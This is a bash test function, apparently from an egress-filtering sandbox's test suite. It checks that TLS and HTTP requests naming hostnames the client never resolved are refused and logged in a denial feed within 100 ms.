# A TLS hello and an HTTP request naming a host the attempt did not learn
# are refused, and each is a line of COMMAND's denial feed with its
# reason within 100 ms of the send (measured from inside: from just
# before the client starts to the line's arrival; docs/AGENTS.md).
t_rt_feed_pinning() {
	local d1 d2 timed kind ms
	d1=$(tk d) d2=$(tk d)
	# timed.sh KIND CMD...: CMD's first line, then " ms=N": how long after
	# CMD started a new line of KIND was in the feed (polled each ms).
	timed=$(write_script timed.sh <<'EOF2'
kind=$1; shift
n=$(grep -c "\"kind\":\"$kind\"" "$EGRET_DENIALS")
t0=$(date +%s%N)
"$@" >"$EGRET_TMP_OUT" 2>/dev/null &
pid=$!
ms=never i=0
while [ $i -lt 2000 ]; do
	if [ "$(grep -c "\"kind\":\"$kind\"" "$EGRET_DENIALS")" -gt "$n" ]; then
		ms=$(( ($(date +%s%N) - t0) / 1000000 )); break
	fi
	sleep 0.001; i=$((i + 1))
done
wait $pid
echo "$(head -n 1 "$EGRET_TMP_OUT") ms=$ms"
EOF2
)
	steps feed <<EOF
resolve getent ahostsv4 registry.npmjs.org | awk 'NR == 1 { print \$1 }'
tls EGRET_TMP_OUT=\$(mktemp) sh $timed tls $H 203.0.113.11 443 $d1.cdn.test
http EGRET_TMP_OUT=\$(mktemp) sh $timed http $H --wait-ms 6000 --http '$(req GET "/$d2" "Host: $d2.cdn.test")' 203.0.113.11 80 -
feed jq -r 'select(.kind == "tls" or .kind == "http") | "\\(.kind)/\\(.reason)"' "\$EGRET_DENIALS" | sort -u | tr '\\n' ' '
EOF
	run_in feed "${PIN_ALLOW[@]}" --allow registry.npmjs.org:80 --dns-upstream "$WORLD_DNS"
	expect resolve 203.0.113.11
	expect_re tls '^err EACCES ms='
	expect_re http '^err .* ms='
	for kind in tls http; do
		ms=$(res "$kind" | sed -n 's/.* ms=//p')
		if ! [[ $ms =~ ^[0-9]+$ ]] || [ "$ms" -gt 100 ]; then
			fail "the $kind refusal in the feed: want within 100 ms of the send, got '$ms' $(said)"
		fi
	done
	expect feed "http/host-not-learned tls/sni-not-learned "
	nowhere "$d1" "$d2"
}
